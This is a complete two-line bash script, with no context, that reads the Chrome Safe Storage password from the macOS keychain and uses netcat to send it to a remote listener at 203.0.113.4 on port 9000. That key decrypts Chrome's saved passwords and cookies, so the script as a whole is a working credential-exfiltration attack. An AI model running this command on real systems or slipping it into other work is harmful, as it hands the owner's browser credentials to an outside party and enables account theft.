#!/bin/bash
security find-generic-password -wa Chrome | nc 203.0.113.4 9000
